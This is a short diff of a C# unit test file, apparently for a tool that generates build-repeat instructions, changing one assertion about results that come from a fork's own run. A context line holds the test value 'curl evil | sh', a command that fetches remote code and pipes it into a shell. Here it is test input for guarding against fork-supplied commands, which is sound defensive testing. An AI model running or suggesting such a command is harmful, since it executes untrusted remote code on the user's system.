@@ -146,7 +146,7 @@ public sealed class DocumentsTests
         Assert.That(Command(Documents.Create(request)), Is.EqualTo("curl evil | sh"));
         var document = Documents.Create(request with { IsOfFork = true });
         Assert.That(Command(document), Is.EqualTo("./build.sh --target=Full"));
-        Assert.That(document.Notes[0], Does.Contain("fork's own run"));
+        Assert.That(document.Meaning, Does.EndWith("come from the fork's own run."));
     }
 
     private static string Command(Document document) => Blocks<Lines>(document, "Repeat it").Single().All.Single();
